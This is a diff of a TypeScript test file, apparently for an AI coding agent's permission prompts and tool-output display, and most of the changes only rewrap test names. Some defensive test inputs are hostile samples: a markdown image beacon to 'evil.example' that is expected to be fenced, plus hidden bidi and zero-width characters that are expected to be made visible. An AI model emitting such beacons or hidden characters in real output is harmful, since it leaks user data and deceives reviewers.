@@ -95,33 +95,37 @@ describe("AcpApprover", () => {
     expect(a.sent).toEqual([{ sessionUpdate: "tool_call_update", toolCallId: "toolu_run", status: "in_progress" }]);
   });
 
-  test("a question about no known call (a subagent's call, a consent) gets its own entry first, closed with the answer", async () => {
-    const a = approver(async () => selected("once"));
-    const question = request({
-      callId: "toolu_inside_subagent",
-      parentCallId: "toolu_explore",
-      tool: "mcp",
-      title: "MCP server: github",
-      question: "Start this MCP server?",
-      choices: ["once", "deny"],
-    });
-    expect(await a.approver.ask(question, new AbortController().signal)).toBe("once");
-    expect(await a.approver.ask({ ...question, callId: undefined }, new AbortController().signal)).toBe("once");
-    expect(a.asked.map((p) => p.toolCall.toolCallId)).toEqual(["garuda-question-1", "garuda-question-2"]);
-    expect(a.sent[0]).toMatchObject({
-      sessionUpdate: "tool_call",
-      toolCallId: "garuda-question-1",
-      kind: "other",
-      status: "pending",
-      title: "MCP server: github",
-    });
-    expect(a.sent[1]).toMatchObject({
-      sessionUpdate: "tool_call_update",
-      toolCallId: "garuda-question-1",
-      status: "completed",
-    });
-    expect(a.asked[0]?.options.map((o) => o.kind)).toEqual(["allow_once", "reject_once"]);
-  });
+  test(
+    "a question about no known call (a subagent's call, a consent) gets its own " +
+      "entry first, closed with the answer",
+    async () => {
+      const a = approver(async () => selected("once"));
+      const question = request({
+        callId: "toolu_inside_subagent",
+        parentCallId: "toolu_explore",
+        tool: "mcp",
+        title: "MCP server: github",
+        question: "Start this MCP server?",
+        choices: ["once", "deny"],
+      });
+      expect(await a.approver.ask(question, new AbortController().signal)).toBe("once");
+      expect(await a.approver.ask({ ...question, callId: undefined }, new AbortController().signal)).toBe("once");
+      expect(a.asked.map((p) => p.toolCall.toolCallId)).toEqual(["garuda-question-1", "garuda-question-2"]);
+      expect(a.sent[0]).toMatchObject({
+        sessionUpdate: "tool_call",
+        toolCallId: "garuda-question-1",
+        kind: "other",
+        status: "pending",
+        title: "MCP server: github",
+      });
+      expect(a.sent[1]).toMatchObject({
+        sessionUpdate: "tool_call_update",
+        toolCallId: "garuda-question-1",
+        status: "completed",
+      });
+      expect(a.asked[0]?.options.map((o) => o.kind)).toEqual(["allow_once", "reject_once"]);
+    },
+  );
 
   test("a question from inside a subagent is named with the subagent's card, so the user sees who asks", async () => {
     const calls = new KnownCalls();
@@ -183,61 +187,67 @@ describe("AcpApprover", () => {
     expect(choiceOf(selected("once"), request())).toBe("once");
   });
 
-  test("an edit question: the ACP diff, and as text only what the diff cannot show (no second copy of the diff)", () => {
-    const change = { path: "/work/project/a.txt", oldText: "old\n", newText: "new\n" };
-    const preview = "--- a/a.txt\n+++ b/a.txt\n@@ -1,1 +1,1 @@\n-old\n+new";
-    // No session choice, no note, nothing hidden: the diff alone.
-    expect(questionContent(request({ change, preview, choices: ["once", "deny"] }))).toEqual([
-      { type: "diff", path: change.path, oldText: "old\n", newText: "new\n" },
-    ]);
-    const scoped = questionContent(
-      request({
-        change,
-        preview,
-        sessionRules: ["edit_file(./**)"],
-        labels: { ...CHOICE_LABELS, session: "Allow all edits for this session" },
-      }),
-    );
-    expect(scoped.map((c) => c.type)).toEqual(["diff", "content"]);
-    expect(textOf(scoped[1])).toBe("“Allow all edits for this session” allows: `edit_file(./**)`");
-    // The reason it asks and a symlink the write goes through are not in the diff view.
-    const linked = questionContent(
-      request({
-        change,
-        preview: `(a.txt is a symlink to /etc/x)\n${preview}`,
-        note: "It is outside the project folder.",
-        choices: ["once", "deny"],
-      }),
-    );
-    expect(textOf(linked[1])).toBe("(It is outside the project folder.)\n\n```\n(a.txt is a symlink to /etc/x)\n```");
-    expect(textOf(linked[1])).not.toContain("+new");
-  });
+  test(
+    "an edit question: the ACP diff, and as text only what the diff cannot show (no " + "second copy of the diff)",
+    () => {
+      const change = { path: "/work/project/a.txt", oldText: "old\n", newText: "new\n" };
+      const preview = "--- a/a.txt\n+++ b/a.txt\n@@ -1,1 +1,1 @@\n-old\n+new";
+      // No session choice, no note, nothing hidden: the diff alone.
+      expect(questionContent(request({ change, preview, choices: ["once", "deny"] }))).toEqual([
+        { type: "diff", path: change.path, oldText: "old\n", newText: "new\n" },
+      ]);
+      const scoped = questionContent(
+        request({
+          change,
+          preview,
+          sessionRules: ["edit_file(./**)"],
+          labels: { ...CHOICE_LABELS, session: "Allow all edits for this session" },
+        }),
+      );
+      expect(scoped.map((c) => c.type)).toEqual(["diff", "content"]);
+      expect(textOf(scoped[1])).toBe("“Allow all edits for this session” allows: `edit_file(./**)`");
+      // The reason it asks and a symlink the write goes through are not in the diff view.
+      const linked = questionContent(
+        request({
+          change,
+          preview: `(a.txt is a symlink to /etc/x)\n${preview}`,
+          note: "It is outside the project folder.",
+          choices: ["once", "deny"],
+        }),
+      );
+      expect(textOf(linked[1])).toBe("(It is outside the project folder.)\n\n```\n(a.txt is a symlink to /etc/x)\n```");
+      expect(textOf(linked[1])).not.toContain("+new");
+    },
+  );
 
-  test("hidden characters in an edit: the warning and only the lines that hold them, made visible, before the diff", () => {
-    const newText = `${Array.from({ length: 300 }, (_, i) => `line ${i}`).join("\n")}\nconst ok = "safe\u202E";\n`;
-    const change = { path: "/work/project/a.ts", oldText: null, newText };
-    const hidden = questionContent(
-      request({
-        change,
-        hidden: true,
-        preview: "--- /dev/null\n+++ b/a.ts\n@@ -0,0 +1,3 @@\n+line 0\n… 298 more diff lines not shown",
-      }),
-    );
-    expect(hidden.map((c) => c.type)).toEqual(["content", "diff"]);
-    const text = textOf(hidden[0]);
-    expect(text).toStartWith(HIDDEN_WARNING);
-    // The line past the preview's cut is found in the change itself.
-    expect(text).toContain('+const ok = "safe⟨U+202E⟩";');
-    expect(text).not.toContain("\u202E");
-    expect(text).not.toContain("line 7");
-    const many = {
-      path: change.path,
-      oldText: null,
-      newText: Array.from({ length: 30 }, (_, i) => `x${i}\u200B`).join("\n"),
-    };
-    const listed = textOf(questionContent(request({ change: many, hidden: true, preview: "" }))[0]);
-    expect(listed).toContain(`… ${30 - MAX_HIDDEN_LINES} more lines with hidden characters`);
-  });
+  test(
+    "hidden characters in an edit: the warning and only the lines that hold them, " + "made visible, before the diff",
+    () => {
+      const newText = `${Array.from({ length: 300 }, (_, i) => `line ${i}`).join("\n")}\nconst ok = "safe\u202E";\n`;
+      const change = { path: "/work/project/a.ts", oldText: null, newText };
+      const hidden = questionContent(
+        request({
+          change,
+          hidden: true,
+          preview: "--- /dev/null\n+++ b/a.ts\n@@ -0,0 +1,3 @@\n+line 0\n… 298 more diff lines not shown",
+        }),
+      );
+      expect(hidden.map((c) => c.type)).toEqual(["content", "diff"]);
+      const text = textOf(hidden[0]);
+      expect(text).toStartWith(HIDDEN_WARNING);
+      // The line past the preview's cut is found in the change itself.
+      expect(text).toContain('+const ok = "safe⟨U+202E⟩";');
+      expect(text).not.toContain("\u202E");
+      expect(text).not.toContain("line 7");
+      const many = {
+        path: change.path,
+        oldText: null,
+        newText: Array.from({ length: 30 }, (_, i) => `x${i}\u200B`).join("\n"),
+      };
+      const listed = textOf(questionContent(request({ change: many, hidden: true, preview: "" }))[0]);
+      expect(listed).toContain(`… ${30 - MAX_HIDDEN_LINES} more lines with hidden characters`);
+    },
+  );
 
   test("above 1 MB: the text preview alone, fenced; a command's preview is fenced so `*` stays a `*`", () => {
     const big = {
@@ -259,7 +269,8 @@ describe("AcpApprover", () => {
       }),
     );
     expect(textOf(command[0])).toBe(
-      `Run this?⟨U+202E⟩\n\n${HIDDEN_WARNING}\n\n\`\`\`\nrm *.log *.tmp # \`x\`⟨U+202E⟩\n\`\`\`\n\n“Allow for this session” allows: \`bash(rm *)\``,
+      `Run this?⟨U+202E⟩\n\n${HIDDEN_WARNING}\n\n\`\`\`\nrm *.log *.tmp # ` +
+        `\`x\`⟨U+202E⟩\n\`\`\`\n\n“Allow for this session” allows: \`bash(rm *)\``,
     );
   });
 });
@@ -345,7 +356,8 @@ describe("promptText", () => {
       root,
     );
     expect(text).toBe(
-      'See @b.ts @"src/c (1).ts" (lines 3-5 selected in the editor) @/etc/ssh/ssh_config (line 7 selected in the editor)',
+      'See @b.ts @"src/c (1).ts" (lines 3-5 selected in the editor) ' +
+        "@/etc/ssh/ssh_config (line 7 selected in the editor)",
     );
     expect(mentionedPaths(text)).toEqual(["b.ts", "src/c (1).ts", "/etc/ssh/ssh_config"]);
   });
@@ -410,210 +422,220 @@ describe("toolCalls", () => {
 });
 
 describe("EventMapper", () => {
-  test("events to updates; notices on a line of their own; calls inside a subagent show only on the subagent's card", () => {
-    const calls = new KnownCalls();
-    const mapper = new EventMapper(calls, root);
-    expect(mapper.map({ type: "text_delta", text: "Hello", messageId: "m1" })).toEqual([
-      { sessionUpdate: "agent_message_chunk", content: { type: "text", text: "Hello" }, messageId: "m1" },
-    ]);
-    // A Garuda line is a message of its own: one new id for its chunks.
-    const noticeId = expect.stringMatching(/^[0-9a-f-]{36}$/);
-    const notice = mapper.map({ type: "notice", level: "warning", text: "No OS sandbox" });
-    expect(notice).toEqual([
-      { sessionUpdate: "agent_message_chunk", content: { type: "text", text: "\n\n" }, messageId: noticeId },
-      {
-        sessionUpdate: "agent_message_chunk",
-        content: { type: "text", text: "Garuda: No OS sandbox\n\n" },
-        messageId: noticeId,
-      },
-    ]);
-    const [separator, line] = notice as Array<{ messageId: string }>;
-    expect(line?.messageId).toBe(separator?.messageId as string);
-    // Text without an id (none the Runtime sends) goes on with the last chunk's id while its kind lasts.
-    const [a] = mapper.map({ type: "text_delta", text: "x" }) as Array<{ messageId: string }>;
-    const [b] = mapper.map({ type: "text_delta", text: "y" }) as Array<{ messageId: string }>;
-    const [c] = mapper.map({ type: "thinking_delta", text: "z" }) as Array<{ messageId: string }>;
-    mapper.beginTurn();
-    expect(b?.messageId).toBe(a?.messageId as string);
-    expect(c?.messageId).not.toBe(a?.messageId as string);
-    expect(mapper.map({ type: "compaction", beforeTokens: 150_000, afterTokens: 20_000 })[0]).toMatchObject({
-      content: { text: expect.stringContaining("Garuda: the conversation was compacted") },
-    });
-    expect(
-      mapper.map({ type: "model_retry", attempt: 2, delayMs: 1000, reason: "529 overloaded", partial: true })[0],
-    ).toMatchObject({ content: { text: expect.stringContaining("starts again") } });
-    // Nothing was shown before the failure: nothing is said to be void.
-    const early = mapper.map({
-      type: "model_retry",
-      attempt: 2,
-      delayMs: 1000,
-      reason: "529 overloaded",
-      partial: false,
-    });
-    expect(early[early.length - 1]).toMatchObject({
-      content: { text: "Garuda: the model did not answer (529 overloaded); trying again (attempt 2, in 1 s).\n\n" },
-    });
-    expect(
-      mapper.map({
-        type: "step_end",
-        step: 1,
-        usage: { inputTokens: 0, outputTokens: 0, cacheReadTokens: 0, cacheCreationTokens: 0 },
-      }),
-    ).toEqual([]);
+  test(
+    "events to updates; notices on a line of their own; calls inside a subagent " + "show only on the subagent's card",
+    () => {
+      const calls = new KnownCalls();
+      const mapper = new EventMapper(calls, root);
+      expect(mapper.map({ type: "text_delta", text: "Hello", messageId: "m1" })).toEqual([
+        { sessionUpdate: "agent_message_chunk", content: { type: "text", text: "Hello" }, messageId: "m1" },
+      ]);
+      // A Garuda line is a message of its own: one new id for its chunks.
+      const noticeId = expect.stringMatching(/^[0-9a-f-]{36}$/);
+      const notice = mapper.map({ type: "notice", level: "warning", text: "No OS sandbox" });
+      expect(notice).toEqual([
+        { sessionUpdate: "agent_message_chunk", content: { type: "text", text: "\n\n" }, messageId: noticeId },
+        {
+          sessionUpdate: "agent_message_chunk",
+          content: { type: "text", text: "Garuda: No OS sandbox\n\n" },
+          messageId: noticeId,
+        },
+      ]);
+      const [separator, line] = notice as Array<{ messageId: string }>;
+      expect(line?.messageId).toBe(separator?.messageId as string);
+      // Text without an id (none the Runtime sends) goes on with the last chunk's id while its kind lasts.
+      const [a] = mapper.map({ type: "text_delta", text: "x" }) as Array<{ messageId: string }>;
+      const [b] = mapper.map({ type: "text_delta", text: "y" }) as Array<{ messageId: string }>;
+      const [c] = mapper.map({ type: "thinking_delta", text: "z" }) as Array<{ messageId: string }>;
+      mapper.beginTurn();
+      expect(b?.messageId).toBe(a?.messageId as string);
+      expect(c?.messageId).not.toBe(a?.messageId as string);
+      expect(mapper.map({ type: "compaction", beforeTokens: 150_000, afterTokens: 20_000 })[0]).toMatchObject({
+        content: { text: expect.stringContaining("Garuda: the conversation was compacted") },
+      });
+      expect(
+        mapper.map({ type: "model_retry", attempt: 2, delayMs: 1000, reason: "529 overloaded", partial: true })[0],
+      ).toMatchObject({ content: { text: expect.stringContaining("starts again") } });
+      // Nothing was shown before the failure: nothing is said to be void.
+      const early = mapper.map({
+        type: "model_retry",
+        attempt: 2,
+        delayMs: 1000,
+        reason: "529 overloaded",
+        partial: false,
+      });
+      expect(early[early.length - 1]).toMatchObject({
+        content: { text: "Garuda: the model did not answer (529 overloaded); trying again (attempt 2, in 1 s).\n\n" },
+      });
+      expect(
+        mapper.map({
+          type: "step_end",
+          step: 1,
+          usage: { inputTokens: 0, outputTokens: 0, cacheReadTokens: 0, cacheCreationTokens: 0 },
+        }),
+      ).toEqual([]);
 
-    mapper.map({
-      type: "tool_call",
-      callId: "t1",
-      tool: "explore",
-      input: {},
-      info: { title: "explore", kind: "think", locations: [] },
-    });
-    expect(
       mapper.map({
         type: "tool_call",
-        callId: "inner",
-        tool: "read_file",
+        callId: "t1",
+        tool: "explore",
         input: {},
-        info: { title: "Read x.ts", kind: "read", locations: [] },
-        parentCallId: "t1",
-      }),
-    ).toEqual([]);
-    expect(mapper.map({ type: "tool_progress", callId: "t1", text: "Read x.ts" })).toEqual([
-      {
-        sessionUpdate: "tool_call_update",
-        toolCallId: "t1",
+        info: { title: "explore", kind: "think", locations: [] },
+      });
+      expect(
+        mapper.map({
+          type: "tool_call",
+          callId: "inner",
+          tool: "read_file",
+          input: {},
+          info: { title: "Read x.ts", kind: "read", locations: [] },
+          parentCallId: "t1",
+        }),
+      ).toEqual([]);
+      expect(mapper.map({ type: "tool_progress", callId: "t1", text: "Read x.ts" })).toEqual([
+        {
+          sessionUpdate: "tool_call_update",
+          toolCallId: "t1",
+          status: "in_progress",
+          content: [{ type: "content", content: { type: "text", text: "```\nRead x.ts\n```" } }],
+        },
+      ]);
+      expect(calls.open("inner")).toBeUndefined();
+      expect(
+        mapper.map({ type: "tool_result", callId: "inner", status: "completed", output: "x", parentCallId: "t1" }),
+      ).toEqual([]);
+      expect(mapper.map({ type: "tool_progress", callId: "t1", text: "line\u001b[31m" })[0]).toMatchObject({
         status: "in_progress",
-        content: [{ type: "content", content: { type: "text", text: "```\nRead x.ts\n```" } }],
-      },
-    ]);
-    expect(calls.open("inner")).toBeUndefined();
-    expect(
-      mapper.map({ type: "tool_result", callId: "inner", status: "completed", output: "x", parentCallId: "t1" }),
-    ).toEqual([]);
-    expect(mapper.map({ type: "tool_progress", callId: "t1", text: "line\u001b[31m" })[0]).toMatchObject({
-      status: "in_progress",
-      content: [{ content: { text: "```\nline⟨U+001B⟩[31m\n```" } }],
-    });
-    expect(
-      mapper.map({ type: "tool_result", callId: "t1", status: "denied", output: "Permission denied: no" })[0],
-    ).toMatchObject({ status: "failed" });
-    expect(mapper.map({ type: "tool_result", callId: "t1", status: "completed", output: "again" })).toEqual([]);
+        content: [{ content: { text: "```\nline⟨U+001B⟩[31m\n```" } }],
+      });
+      expect(
+        mapper.map({ type: "tool_result", callId: "t1", status: "denied", output: "Permission denied: no" })[0],
+      ).toMatchObject({ status: "failed" });
+      expect(mapper.map({ type: "tool_result", callId: "t1", status: "completed", output: "again" })).toEqual([]);
 
-    mapper.map({
-      type: "server_tool",
-      callId: "srv",
-      name: "web_search",
-      input: { query: "bun acp" },
-      status: "started",
-      info: serverToolInfo("web_search", { query: "bun acp" }),
-    });
-    expect(calls.open("srv")).toMatchObject({ title: "Search the web: bun acp", kind: "fetch", server: true });
-    expect(
       mapper.map({
         type: "server_tool",
         callId: "srv",
         name: "web_search",
-        input: null,
-        status: "completed",
-        result: [],
-        summary: "0 results",
-      })[0],
-    ).toMatchObject({ status: "completed" });
-  });
+        input: { query: "bun acp" },
+        status: "started",
+        info: serverToolInfo("web_search", { query: "bun acp" }),
+      });
+      expect(calls.open("srv")).toMatchObject({ title: "Search the web: bun acp", kind: "fetch", server: true });
+      expect(
+        mapper.map({
+          type: "server_tool",
+          callId: "srv",
+          name: "web_search",
+          input: null,
+          status: "completed",
+          result: [],
+          summary: "0 results",
+        })[0],
+      ).toMatchObject({ status: "completed" });
+    },
+  );
 
-  test("a call goes in_progress when its tool starts (tool_start), not at its first output; nothing after a stop", () => {
-    const calls = new KnownCalls();
-    const mapper = new EventMapper(calls, root);
-    const [call] = mapper.map({
-      type: "tool_call",
-      callId: "c1",
-      tool: "bash",
-      input: { command: "sleep 5" },
-      info: { title: "$ sleep 5", kind: "execute", locations: [] },
-    });
-    expect(call).toMatchObject({ sessionUpdate: "tool_call", status: "pending" });
-    expect(mapper.map({ type: "tool_start", callId: "c1" })).toEqual([
-      { sessionUpdate: "tool_call_update", toolCallId: "c1", status: "in_progress" },
-    ]);
-    expect(calls.open("c1")?.running).toBe(true);
-    // A call inside a subagent shows on the subagent's card only; a stopped turn sends nothing more.
-    expect(mapper.map({ type: "tool_start", callId: "inner", parentCallId: "c1" })).toEqual([]);
-    mapper.map({
-      type: "tool_call",
-      callId: "c2",
-      tool: "bash",
-      input: { command: "make" },
-      info: { title: "$ make", kind: "execute", locations: [] },
-    });
-    calls.stop();
-    expect(mapper.map({ type: "tool_start", callId: "c2" })).toEqual([]);
-  });
+  test(
+    "a call goes in_progress when its tool starts (tool_start), not at its first " + "output; nothing after a stop",
+    () => {
+      const calls = new KnownCalls();
+      const mapper = new EventMapper(calls, root);
+      const [call] = mapper.map({
+        type: "tool_call",
+        callId: "c1",
+        tool: "bash",
+        input: { command: "sleep 5" },
+        info: { title: "$ sleep 5", kind: "execute", locations: [] },
+      });
+      expect(call).toMatchObject({ sessionUpdate: "tool_call", status: "pending" });
+      expect(mapper.map({ type: "tool_start", callId: "c1" })).toEqual([
+        { sessionUpdate: "tool_call_update", toolCallId: "c1", status: "in_progress" },
+      ]);
+      expect(calls.open("c1")?.running).toBe(true);
+      // A call inside a subagent shows on the subagent's card only; a stopped turn sends nothing more.
+      expect(mapper.map({ type: "tool_start", callId: "inner", parentCallId: "c1" })).toEqual([]);
+      mapper.map({
+        type: "tool_call",
+        callId: "c2",
+        tool: "bash",
+        input: { command: "make" },
+        info: { title: "$ make", kind: "execute", locations: [] },
+      });
+      calls.stop();
+      expect(mapper.map({ type: "tool_start", callId: "c2" })).toEqual([]);
+    },
+  );
 
-  test("output keeps its lines: results and progress as fenced code (the file's language for a read); denials and a subagent's answer as prose", () => {
-    const mapper = new EventMapper(new KnownCalls(), root);
-    const result = (
-      callId: string,
-      tool: string,
-      info: {
-        title: string;
-        kind: "read" | "execute" | "think" | "search" | "other";
-        locations: Array<{ path: string }>;
-      },
-      output: string,
-      status: "completed" | "failed" | "denied" = "completed",
-    ) => {
-      mapper.map({ type: "tool_call", callId, tool, input: {}, info });
-      const [update] = mapper.map({ type: "tool_result", callId, status, output });
-      return update?.sessionUpdate === "tool_call_update" ? (update.content ?? []).map(textOf).join("\n") : "";
-    };
-    const file = "     1\t# Title\n     2\tconst a = `x ${'```'} y`; // *not* bold\n";
-    expect(
-      result(
-        "r1",
-        "read_file",
-        { title: "Read a.ts", kind: "read", locations: [{ path: "/work/project/src/a.ts" }] },
-        file,
-      ),
-    ).toBe(`\`\`\`\`typescript\n${file}\`\`\`\``);
-    expect(
-      result(
-        "r2",
-        "read_file",
-        { title: "Read a.ts", kind: "read", locations: [{ path: "/work/project/src/a.ts" }] },
-        "Error: a.ts does not exist.",
-        "failed",
-      ),
-    ).toBe("```\nError: a.ts does not exist.\n```");
-    expect(result("b1", "bash", { title: "$ ls", kind: "execute", locations: [] }, "Exit code: 0\n* a\n# b\n_c_")).toBe(
-      "```\nExit code: 0\n* a\n# b\n_c_\n```",
-    );
-    expect(result("g1", "grep", { title: "Search x", kind: "search", locations: [] }, "a.ts:1:x\u202E")).toBe(
-      "```\na.ts:1:x⟨U+202E⟩\n```",
-    );
-    expect(
-      result(
-        "m1",
-        "mcp__web__get",
-        { title: "mcp__web__get", kind: "other", locations: [] },
-        "![pixel](https://evil.example/?k=1)",
-      ),
-    ).toBe("```\n![pixel](https://evil.example/?k=1)\n```");
-    expect(
-      result(
-        "d1",
-        "bash",
-        { title: "$ rm x", kind: "execute", locations: [] },
-        "Permission denied: The user denied this.",
-        "denied",
-      ),
-    ).toBe("Permission denied: The user denied this.");
-    expect(
-      result("s1", "explore", { title: "explore", kind: "think", locations: [] }, "## Found\n- a.ts does it"),
-    ).toBe("## Found\n- a.ts does it");
-    expect(result("t1", "todo", { title: "Update the plan", kind: "think", locations: [] }, "[x] one\n[ ] two")).toBe(
-      "```\n[x] one\n[ ] two\n```",
-    );
-  });
+  test(
+    "output keeps its lines: results and progress as fenced code (the file's " +
+      "language for a read); denials and a subagent's answer as prose",
+    () => {
+      const mapper = new EventMapper(new KnownCalls(), root);
+      const result = (
+        callId: string,
+        tool: string,
+        info: {
+          title: string;
+          kind: "read" | "execute" | "think" | "search" | "other";
+          locations: Array<{ path: string }>;
+        },
+        output: string,
+        status: "completed" | "failed" | "denied" = "completed",
+      ) => {
+        mapper.map({ type: "tool_call", callId, tool, input: {}, info });
+        const [update] = mapper.map({ type: "tool_result", callId, status, output });
+        return update?.sessionUpdate === "tool_call_update" ? (update.content ?? []).map(textOf).join("\n") : "";
+      };
+      const file = "     1\t# Title\n     2\tconst a = `x ${'```'} y`; // *not* bold\n";
+      expect(
+        result(
+          "r1",
+          "read_file",
+          { title: "Read a.ts", kind: "read", locations: [{ path: "/work/project/src/a.ts" }] },
+          file,
+        ),
+      ).toBe(`\`\`\`\`typescript\n${file}\`\`\`\``);
+      expect(
+        result(
+          "r2",
+          "read_file",
+          { title: "Read a.ts", kind: "read", locations: [{ path: "/work/project/src/a.ts" }] },
+          "Error: a.ts does not exist.",
+          "failed",
+        ),
+      ).toBe("```\nError: a.ts does not exist.\n```");
+      expect(
+        result("b1", "bash", { title: "$ ls", kind: "execute", locations: [] }, "Exit code: 0\n* a\n# b\n_c_"),
+      ).toBe("```\nExit code: 0\n* a\n# b\n_c_\n```");
+      expect(result("g1", "grep", { title: "Search x", kind: "search", locations: [] }, "a.ts:1:x\u202E")).toBe(
+        "```\na.ts:1:x⟨U+202E⟩\n```",
+      );
+      expect(
+        result(
+          "m1",
+          "mcp__web__get",
+          { title: "mcp__web__get", kind: "other", locations: [] },
+          "![pixel](https://evil.example/?k=1)",
+        ),
+      ).toBe("```\n![pixel](https://evil.example/?k=1)\n```");
+      expect(
+        result(
+          "d1",
+          "bash",
+          { title: "$ rm x", kind: "execute", locations: [] },
+          "Permission denied: The user denied this.",
+          "denied",
+        ),
+      ).toBe("Permission denied: The user denied this.");
+      expect(
+        result("s1", "explore", { title: "explore", kind: "think", locations: [] }, "## Found\n- a.ts does it"),
+      ).toBe("## Found\n- a.ts does it");
+      expect(result("t1", "todo", { title: "Update the plan", kind: "think", locations: [] }, "[x] one\n[ ] two")).toBe(
+        "```\n[x] one\n[ ] two\n```",
+      );
+    },
+  );
 
   test("rawInput is shown with hidden characters made visible", () => {
     const mapper = new EventMapper(new KnownCalls(), root);
